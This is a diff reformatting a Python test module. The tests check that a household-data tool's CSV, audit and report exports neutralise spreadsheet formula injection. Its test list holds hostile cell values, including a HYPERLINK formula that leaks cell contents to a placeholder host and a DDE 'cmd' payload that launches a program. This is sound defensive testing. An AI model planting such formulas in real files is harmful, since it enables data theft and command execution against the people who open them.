@@ -19,14 +19,26 @@ from blindspot.ingest.report import problems_frame, report_csv
 from blindspot.spreadsheet import FORMULA_TRIGGERS, neutralise, neutralise_frame
 
 T = 20243
-HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1,\"클릭\")", "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
-           "\n=1+1", " =1+1", "＝1+1", "=cmd|' /C calc'!A0"]
+HOSTILE = [
+    '=HYPERLINK("http://x/?"&A1,"클릭")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "＝1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def _live(text: str) -> bool:
     """Would a spreadsheet read this cell text as a formula?"""
-    return (text.lstrip(" ")[:1] in FORMULA_TRIGGERS
-            and not pd.Series([text]).str.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?").iloc[0])
+    return (
+        text.lstrip(" ")[:1] in FORMULA_TRIGGERS
+        and not pd.Series([text]).str.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?").iloc[0]
+    )
 
 
 def _csv_cells(data: bytes) -> list[str]:
@@ -62,8 +74,9 @@ def test_neutralise_follows_owasp_and_keeps_numbers():
         assert neutralise(value) == "'" + value and not _live(neutralise(value))
     for value in ("-3", "+1.5", "-2e3", "H1A2B3C4D", "충장동", "", None, -3, 2.5, True):
         assert neutralise(value) == value
-    frame = neutralise_frame(pd.DataFrame({"=h": ["=1", None], "n": [-1, 2], "f": [-0.5, None],
-                                           "i": pd.array([-4, None], dtype="Int64")}))
+    frame = neutralise_frame(
+        pd.DataFrame({"=h": ["=1", None], "n": [-1, 2], "f": [-0.5, None], "i": pd.array([-4, None], dtype="Int64")})
+    )
     assert frame.columns.tolist() == ["'=h", "n", "f", "i"]
     assert frame["'=h"].tolist()[0] == "'=1" and frame["'=h"].isna().tolist() == [False, True]
     assert frame["n"].tolist() == [-1, 2] and str(frame["n"].dtype) == "int64"
@@ -88,21 +101,28 @@ def hostile_db(modelled, tmp_path):
     path = tmp_path / "hostile.duckdb"
     shutil.copy(modelled[0], path)
     st = Store(path)
-    top = st.rows("SELECT s.household_id FROM scores s WHERE s.round_id = ? AND s.sgg_code = '29110' "
-                  "AND s.band IN ('high', 'medium') ORDER BY s.probability DESC LIMIT 4", [T])
+    top = st.rows(
+        "SELECT s.household_id FROM scores s WHERE s.round_id = ? AND s.sgg_code = '29110' "
+        "AND s.band IN ('high', 'medium') ORDER BY s.probability DESC LIMIT 4",
+        [T],
+    )
     ids = [h for (h,) in top]
-    st.run("UPDATE households SET pseudo_id = ?, housing_type = ? WHERE household_id = ?",
-           [HOSTILE[0], HOSTILE[3], ids[0]])
+    st.run(
+        "UPDATE households SET pseudo_id = ?, housing_type = ? WHERE household_id = ?", [HOSTILE[0], HOSTILE[3], ids[0]]
+    )
     st.run("UPDATE households SET head_age = -5 WHERE household_id = ?", [ids[3]])
     st.run("UPDATE households SET pseudo_id = ? WHERE household_id = ?", [HOSTILE[1], ids[1]])
     st.run("UPDATE scores SET reason_1 = ? WHERE round_id = ? AND household_id = ?", [HOSTILE[2], T, ids[2]])
     emd = st.scalar("SELECT emd_code FROM households WHERE household_id = ?", [ids[2]])
     st.run("UPDATE regions SET name = ?, full_name = ? WHERE code = ?", [HOSTILE[4], HOSTILE[5], emd])
-    hid, sgg, emd0 = st.rows("SELECT household_id, sgg_code, emd_code FROM households WHERE household_id = ?",
-                             [ids[0]])[0]
+    hid, sgg, emd0 = st.rows(
+        "SELECT household_id, sgg_code, emd_code FROM households WHERE household_id = ?", [ids[0]]
+    )[0]
     st.run("DELETE FROM visits WHERE round_id = ? AND household_id = ?", [T, hid])
-    st.run("INSERT INTO visits VALUES (?, ?, ?, ?, 'local', 'supported', ?, now()::TIMESTAMP, ?)",
-           [T, hid, sgg, emd0, HOSTILE[9], HOSTILE[6]])
+    st.run(
+        "INSERT INTO visits VALUES (?, ?, ?, ?, 'local', 'supported', ?, now()::TIMESTAMP, ?)",
+        [T, hid, sgg, emd0, HOSTILE[9], HOSTILE[6]],
+    )
     st.checkpoint()
     yield st
     st.close()
@@ -129,8 +149,7 @@ def test_summary_exports_have_no_live_formula(hostile_db):
 
 def test_audit_export_has_no_live_formula(hostile_db):
     hostile_user = scope_for("analyst", HOSTILE[8])
-    audit.record(hostile_db, hostile_user, "view_list", {"round": T, "area": "=1+1"}, 1, HOSTILE[3],
-                 detail=HOSTILE[2])
+    audit.record(hostile_db, hostile_user, "view_list", {"round": T, "area": "=1+1"}, 1, HOSTILE[3], detail=HOSTILE[2])
     f = exports.export_audit(hostile_db, scope_for("admin", "adm"))
     _assert_csv_safe(f.data, [HOSTILE[8], HOSTILE[3], HOSTILE[2]])
 
@@ -152,9 +171,13 @@ def test_export_round_files_have_no_live_formula(hostile_db, tmp_path, fmt):
 
 
 def test_validation_report_csv_has_no_live_formula():
-    report = problems_frame([Problem("h.csv", i + 2, "pseudo_id", v, "형식이 맞지 않습니다") for i, v in enumerate(HOSTILE)]
-                            + [Problem("h.csv", 20, "head_age", -3, "범위 밖입니다"),
-                               Problem(HOSTILE[0], None, HOSTILE[3], "x", HOSTILE[2])])
+    report = problems_frame(
+        [Problem("h.csv", i + 2, "pseudo_id", v, "형식이 맞지 않습니다") for i, v in enumerate(HOSTILE)]
+        + [
+            Problem("h.csv", 20, "head_age", -3, "범위 밖입니다"),
+            Problem(HOSTILE[0], None, HOSTILE[3], "x", HOSTILE[2]),
+        ]
+    )
     data = report_csv(report)
     # The report echoes values through readers.echo (control characters escaped); those that
     # still begin like a formula must be there, quoted.
